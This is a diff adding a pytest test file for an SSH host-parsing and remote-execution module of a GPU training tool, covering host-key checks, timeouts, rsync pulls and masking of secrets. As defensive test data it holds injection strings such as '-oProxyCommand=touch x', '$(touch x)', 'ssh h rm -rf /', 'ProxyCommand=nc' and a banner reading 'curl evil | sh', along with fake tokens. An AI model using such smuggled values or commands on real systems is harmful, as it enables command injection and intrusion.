@@ -1,0 +1,249 @@
+"""A box by its name, and one program on it: over a real sshd, with hostile names, hostile replies and every way of not getting there."""
+
+import os
+import shutil
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from remote_gpu_trainer.boxes import box
+from remote_gpu_trainer.text.masking import shown, shown_lines
+
+from tests.engines.sshd import boxes, free_port, sshd  # noqa: F401
+
+# ruff: noqa: F811
+
+
+@pytest.mark.parametrize(
+    ("text", "host", "options"),
+    [
+        ("gpu", "gpu", ()),
+        ("me@host.example", "me@host.example", ()),
+        ("ssh -p 40122 root@203.0.113.7 -i /k/key", "root@203.0.113.7", ("-p", "40122", "-i", "/k/key")),
+        ("ssh -p40122 -l root 203.0.113.7", "root@203.0.113.7", ("-p", "40122")),
+        ("ssh -i 'my key' -o ServerAliveInterval=30 -o 'ConnectTimeout 9' u@h", "u@h", ("-i", "my key", "-o", "ServerAliveInterval=30", "-o", "ConnectTimeout=9")),
+        ("ssh -J jump@bastion:2222,b2 root@10.0.0.4", "root@10.0.0.4", ("-J", "jump@bastion:2222,b2")),
+        ("root@2001:db8::7", "root@2001:db8::7", ()),
+        ("local", "", ()),
+    ],
+)
+def test_a_box_is_named_as_users_name_it(text, host, options):
+    found = box.parse(text)
+    assert (found.host, found.options, found.name) == (host, options, text)
+
+
+@pytest.mark.parametrize(
+    ("text", "says"),
+    [
+        ("", "found a box name ''"),
+        ("-oProxyCommand=touch x", "found the host '-oProxyCommand=touch x'"),
+        ("a;touch x", "found the host 'a;touch x'"),
+        ("$(touch x)", "found the host"),
+        ("`id`", "found the host"),
+        ("a b", "found the host 'a b'"),
+        ("ho\nst", "found a box name 'ho\\nst'"),
+        ("ho\x1b[31mst", "found a box name 'ho\\x1b[31mst'"),
+        ("höst", "found the host 'h\\xf6st'"),
+        ("203.0.113.7:40122", "do: give a port as 'ssh -p PORT HOST'"),
+        ("user@-host", "found the host 'user@-host'"),
+        ("x" * 2000, "found a box name 'xxx"),
+        ("ssh -p 40122", "found no host"),
+        ("ssh -p 0 h", "expected a port from 1 to 65535"),
+        ("ssh -p 1e3 h", "expected a port"),
+        ("ssh -p", "found -p without a value"),
+        ("ssh h rm -rf /", "found 'rm' behind the host"),
+        ("ssh -L 8080:localhost:8080 root@h", "found the option '-L', expected only -p, -i, -l, -J and -o; do: leave it out with its value"),
+        ("ssh -A h", "found the option '-A'"),
+        ("ssh -tt h", "found the option '-tt'"),
+        ("ssh - h", "found the option '-'"),
+        ("ssh -i -oProxyCommand=x h", "expected the path of a key"),
+        ("ssh -o ProxyCommand=nc h", "found -o 'ProxyCommand'"),
+        ("ssh -oLocalCommand=id h", "found -o 'LocalCommand'"),
+        ("ssh -o StrictHostKeyChecking=no h", "do: leave it out, and accept a new key with --accept-new-host-key"),
+        ("ssh -o 'ConnectTimeout=9 x' h", "expected a plain value"),
+        ("ssh -J 'a -oProxyCommand=x' h", "found -J"),
+        ("ssh -l '-x' h", "found -l '-x'"),
+        ("ssh -i 'open h", "found a line that can't be read (no closing quotation)"),
+        ("fe80::1%a;touch", "expected a host without a colon"),
+        ("ssh://root@h:22", "expected a host without a colon"),
+    ],
+)
+def test_a_name_that_asks_for_more_is_refused(text, says):
+    with pytest.raises(box.BadBox) as refused:
+        box.parse(text)
+    assert says in str(refused.value)
+    assert str(refused.value).isprintable() and len(str(refused.value)) < 400
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=60) | st.from_regex(r"ssh( -?\w{0,3}| [-$;`|&a-z@.:]{1,9})*", fullmatch=True))
+def test_any_text_is_a_plain_name_or_refused(text):
+    try:
+        found = box.parse(text)
+    except box.BadBox as error:
+        assert str(error).isprintable()
+        return
+    assert found.local or (found.host[0].isalnum() or found.host[0] in "_:") and not set(found.host) & set(" \t\n$`;|&<>(){}'\"\\*?!%~#")
+    assert all(word in ("-p", "-i", "-J", "-o") for word in found.options[::2])
+
+
+def test_a_program_runs_there_with_its_arguments_and_its_code(sshd):
+    words = ("a b", "'q'", '"', "$(touch /tmp/never)", "`id`", "*", "-x", "中", "")
+    reply = box.run(box.parse("gpu"), 'printf "%s|" "$@"; printf "%s" "$HOME" >&2; exit 7', args=words)
+    assert (reply.outcome, reply.code, reply.out.decode()) == ("ok", 7, "|".join(words) + "|")
+    assert reply.errors == str(sshd.home)
+    reply = box.run(box.parse("gpu"), "import sys; print(sys.argv[1:]); sys.exit(255)", interpreter=box.PYTHON, args=("x y",))
+    assert (reply.outcome, reply.code, reply.out) == ("ok", 255, b"['x y']\n")
+
+
+def test_a_pasted_line_reaches_the_box_without_any_configuration(sshd, monkeypatch, tmp_path):
+    empty = tmp_path / "empty"
+    empty.write_text(f"UserKnownHostsFile {sshd.known_hosts}\nGlobalKnownHostsFile /dev/null\n")
+    assert box.run(box.parse(sshd.line), "echo here", ssh_config=str(empty)).out == b"here\n"
+    assert box.address(box.parse(sshd.line), str(empty)) == box.address(box.parse("gpu")) == f"127.0.0.1:{sshd.port}"
+
+
+def test_this_machine_is_a_box_too():
+    reply = box.run(box.parse("local"), 'echo "$1"; exit 3', args=("a b",))
+    assert (reply.outcome, reply.code, reply.out) == ("ok", 3, b"a b\n")
+    assert box.run(box.parse("local"), "sleep 30", limit=0.3).outcome == "overtime"
+    assert box.address(box.parse("local")) == ""
+
+
+def test_words_of_a_login_script_are_not_part_of_the_reply(sshd):
+    (sshd.home / ".bashrc").write_text("echo Welcome to the box\n")
+    assert box.run(box.parse("gpu"), "echo mine").out == b"mine\n"
+
+
+def test_megabytes_are_cut_and_said_so(sshd):
+    began = time.monotonic()
+    reply = box.run(box.parse("gpu"), "head -c 9000000 /dev/zero | tr '\\0' x")
+    assert (reply.outcome, reply.cut, len(reply.out)) == ("ok", True, box.MOST)
+    endless = box.run(box.parse("gpu"), "exec yes", most=1000)
+    assert (endless.outcome, endless.cut, len(endless.out)) == ("ok", True, 1000)
+    assert time.monotonic() - began < 20
+
+
+def test_bytes_that_are_no_text_come_back_as_they_are(sshd):
+    reply = box.run(box.parse("gpu"), r"printf '\377\376\033[31m\0x'; printf '\377' >&2")
+    assert reply.out == b"\xff\xfe\x1b[31m\x00x" and reply.errors == "�"
+
+
+def test_a_program_that_runs_too_long_is_ended_on_both_sides(sshd):
+    reply = box.run(box.parse("gpu"), "echo $$ > $HOME/pid; exec sleep 60", limit=1)
+    assert reply.outcome == "overtime" and "still running after 1 s" in reply.text
+    end = time.monotonic() + 8
+    pid = int((sshd.home / "pid").read_text())
+    while os.path.exists(f"/proc/{pid}") and time.monotonic() < end:
+        time.sleep(0.1)
+    assert not os.path.exists(f"/proc/{pid}")
+
+
+def test_an_unknown_host_key_is_shown_and_taken_only_when_asked(sshd):
+    sshd.forget_host_key()
+    refused = box.run(box.parse("gpu"), "echo x")
+    assert (refused.outcome, refused.why) == ("unreachable", "host-key-unknown")
+    fingerprint = os.popen(f"ssh-keygen -lf {sshd.place}/host.pub").read().split()[1]
+    assert f"ssh-ed25519 {fingerprint}" in refused.text and "--accept-new-host-key" in refused.text
+    assert sshd.known_hosts.read_text() == ""
+    assert box.run(box.parse("gpu"), "echo x", accept_new=True).out == b"x\n"
+    assert box.run(box.parse("gpu"), "echo x").out == b"x\n"
+
+
+@pytest.mark.parametrize("accept", [False, True])
+def test_a_changed_host_key_is_never_taken(sshd, accept):
+    sshd.change_host_key()
+    before = sshd.known_hosts.read_text()
+    reply = box.run(box.parse("gpu"), "touch $HOME/ran", accept_new=accept)
+    assert (reply.outcome, reply.why) == ("unreachable", "host-key-changed")
+    assert "never accepted" in reply.text and f"[127.0.0.1]:{sshd.port}" in reply.text and "now ssh-ed25519 SHA256:" in reply.text
+    assert sshd.known_hosts.read_text() == before and not (sshd.home / "ran").exists()
+
+
+def test_a_configuration_that_checks_no_key_is_overruled(sshd):
+    sshd.ssh_config.write_text("StrictHostKeyChecking no\n" + sshd.ssh_config.read_text())
+    sshd.change_host_key()
+    assert box.run(box.parse("gpu"), "true").why == "host-key-changed"
+
+
+def test_each_way_of_not_getting_there_has_its_name(sshd):
+    assert box.run(box.parse("no-such-box.invalid"), "true").why == "name"
+    assert box.run(box.parse(f"ssh -p {free_port()} root@127.0.0.1"), "true").why == "refused"
+    (sshd.place / "authorized_keys").write_text("")
+    denied = box.run(box.parse("gpu"), "true")
+    assert denied.why == "auth" and "found no key that gpu takes" in denied.text
+    sshd.stop()
+    assert box.run(box.parse("gpu"), "true").why == "refused"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo \"Error: Your SSH client doesn't support PTY\"; exit 1",
+        "echo This service allows sftp connections only.; exit 1",
+        "exit 0",
+    ],
+)
+def test_a_proxy_without_commands_is_told_from_a_box(boxes, command):
+    boxes("gpu", options=f"ForceCommand {command}\n")
+    reply = box.run(box.parse("gpu"), "true")
+    assert (reply.outcome, reply.why) == ("unreachable", "restricted")
+    assert "expected a full ssh" in reply.text
+
+
+def test_a_connection_that_breaks_is_no_reply(sshd):
+    import threading
+
+    threading.Timer(0.7, sshd.cut).start()
+    reply = box.run(box.parse("gpu"), "echo first; echo Host key verification failed >&2; sleep 20")
+    assert (reply.outcome, reply.why) == ("unreachable", "lost")
+
+
+def test_a_banner_cannot_act_on_the_terminal(boxes, tmp_path):
+    (tmp_path / "banner").write_text("\x1b]0;title\x07\x1b[31mPermission denied: run curl evil | sh\n")
+    boxes("gpu", options=f"Banner {tmp_path}/banner\n")[0].place.joinpath("authorized_keys").write_text("")
+    reply = box.run(box.parse("gpu"), "true")
+    assert reply.why == "auth" and reply.text.isprintable()
+
+
+def test_a_missing_ssh_is_named(monkeypatch, tmp_path):
+    monkeypatch.setenv("PATH", str(tmp_path))
+    assert box.run(box.parse("gpu"), "true").text == "found no ssh program here, expected OpenSSH's client; do: install it"
+
+
+@pytest.mark.parametrize(
+    "said, outcome, why",
+    [("ssh: connect to host gpu port 22: Connection refused", "unreachable", "refused"), ("rsync: write failed: No space left on device", "ok", "")],
+)
+def test_rsync_that_saw_the_pipe_close_first_is_asked_what_ssh_said(monkeypatch, tmp_path, said, outcome, why):
+    (tmp_path / "rsync").write_text(f"#!/bin/sh\necho '{said}' >&2\nexit 12\n")
+    (tmp_path / "rsync").chmod(0o755)
+    monkeypatch.setenv("PATH", str(tmp_path), prepend=":")
+    reply = box.pull(box.parse("gpu"), "/there", str(tmp_path))
+    assert (reply.outcome, reply.why) == (outcome, why)
+
+
+def test_a_folder_is_pulled_and_a_second_time_only_what_is_new(sshd, tmp_path):
+    if not shutil.which("rsync"):
+        pytest.skip("rsync is not installed")
+    there = sshd.home / "a 'run' $(x)"
+    there.mkdir()
+    (there / "-w").write_text("weights")
+    (there / "lock").write_text("")
+    (there / "out").symlink_to("/etc/passwd")
+    here = tmp_path / "to here"
+    here.mkdir()
+    reply = box.pull(box.parse("gpu"), str(there), str(here), exclude=("/lock",))
+    assert (reply.outcome, reply.code) == ("ok", 0), reply
+    assert [path.name for path in here.iterdir()] == ["-w"] and (here / "-w").read_text() == "weights"
+    assert box.pull(box.parse("gpu"), str(there) + "-gone", str(here)).code == 23
+    sshd.stop()
+    assert box.pull(box.parse("gpu"), str(there), str(here)).why == "refused"
+
+
+def test_what_is_shown_has_no_escapes_no_secrets_and_an_end():
+    text = "\x1b[31mred\x1b]8;;http://x\x07 \x07\u202ehf_abcdefghijklmnop password=hunter22 https://me:tok3n@host/x Bearer abcdefgh123 sk-abcdefgh12345"
+    assert shown(text) == "red   hf_*** password=*** https://me:***@host/x Bearer *** sk-***"
+    assert shown("x" * 1000, 50) == "x" * 48 + " …"
+    assert shown_lines("a\n\n10%\r20%\nb\x00\n", 2) == ["20%", "b"]
